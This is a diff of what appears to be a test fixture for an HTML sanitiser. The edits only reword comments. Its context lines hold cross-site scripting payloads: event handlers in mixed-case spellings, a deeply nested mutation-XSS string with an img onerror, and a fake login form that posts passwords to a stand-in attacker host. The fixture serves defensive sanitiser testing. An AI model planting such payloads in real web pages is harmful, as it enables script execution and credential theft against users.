@@ -1,6 +1,6 @@
 /**
- * Bodies that try to run code, to load from elsewhere or to imitate the portal. Unsanitised, each would set
- * `window.ran` or request something from `evil.example` or `forged`.
+ * Texts that try to run code, load external resources or imitate the portal. Unsanitised, each would set `window.ran` or
+ * request something from `evil.example` or `forged`.
  */
 import { FORGED_REQUESTS } from './forged-requests.ts';
 
@@ -39,7 +39,7 @@ const EVENTS = [
   'oNlOaD',
 ];
 
-/** Event handlers in all spellings. */
+/** Event handlers in various spellings. */
 const handlers = ELEMENTS.flatMap((element, index) =>
   EVENTS.filter((_, position) => (position + index) % 2 === 0).map(
     (event) => `<${element} src=x tabindex=0 autofocus open ${event}="${RUN}">text</${element}>`,
@@ -214,7 +214,7 @@ const mutations = [
   `<math>${'<mrow>'.repeat(200)}<mtext><img src=x onerror=${RUN}>`,
 ];
 
-/** Elements that imitate the portal or take over its names. */
+/** Elements that imitate the portal or redefine its names. */
 const disguises = [
   `<form action="${EVIL_HOST}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
   `<input form=x name=password type=password>`,
